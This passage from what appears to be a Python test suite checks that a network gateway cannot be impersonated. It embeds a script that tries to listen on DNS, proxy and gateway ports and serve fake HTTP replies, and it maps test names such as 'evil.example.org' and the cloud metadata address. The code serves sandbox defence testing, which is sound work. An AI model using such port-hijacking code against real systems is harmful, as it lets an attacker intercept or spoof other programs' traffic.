        except OSError as e: return e.errno
        def run():
            while True:
                c, _ = s.accept(); c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfake"); c.close()
        threading.Thread(target=run, daemon=True).start()
    return 0
for port in (53, 3128, 3129):
    for place in ("127.0.0.1", "0.0.0.0"):
        print(port, place, serve((place, port)), serve((place, port), kind=socket.SOCK_DGRAM))
    print(port, "::1", serve(("::1", port), socket.AF_INET6), serve(("::", port), socket.AF_INET6))
print("the allowed address itself", serve(("1.2.3.4", 8081)))
print("every address", serve(("0.0.0.0", 8081)))
name = socket.gethostbyname("front.example.org")
print("the name's address", serve((name, 8081)))
get = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"
for what, got in {"name": talk(("front.example.org", 8081), get, wait=60),
                  "address": talk(("1.2.3.4", 8081), get, wait=60),
                  "proxy": tunnel("front.example.org", wait=60), "denied": talk(("1.2.3.5", 8081), get)}.items():
    print(what, "reached" if b"reached" in got else "fake" if b"fake" in got else "nothing")
"""


def test_nobody_else_listens_where_the_gateway_does(w: World):
    """The gateway's ports cannot be shared, and a program that listens at the world's addresses is not connected to."""
    allow(w, f"front.example.org:{PORT}", f"{net.V4}:{PORT}")
    with victims.there(PORT) as front, victims.there(PORT, net.OTHER_V4) as evil:
        done = attack(w, LISTENING)
        lines = done.text.splitlines()
        # Of TCP, or of both where nobody may bind so low a port; what is UDP's at the others is no way anywhere.
        check(all(line.split()[2] in ("98", "13") for line in lines[:9]), done)
        check(all(line.split()[3] == "13" for line in lines[:3]), done)
        equal(lines[-4:], ["name reached", "address reached", "proxy reached", "denied nothing"], done)
        equal((len([h for h in front.heard if h]), evil.heard), (3, []))
    equal(len(records(w, "connection-allowed")), 3)
    refused(w, f"{net.OTHER_V4}:{PORT}")


if __name__ == "__main__":
    net.enter()
    MARKED = 4799
    NAMES = net.Names({"allowed.com": [net.V4], "front.example.org": [net.V4], "evil.example.org": [net.OTHER_V4],
                       **{name.rstrip(".").lower(): [net.OTHER_V4] for name in NAMES_LIKE_IT if name != "allowed.com."},
                       "localhost": ["127.0.0.1"], "ip6-localhost": ["127.0.0.1"], "metadata": ["169.254.169.254"]})
    MARK = net.serve(MARKED)
    main(sys.modules[__name__])
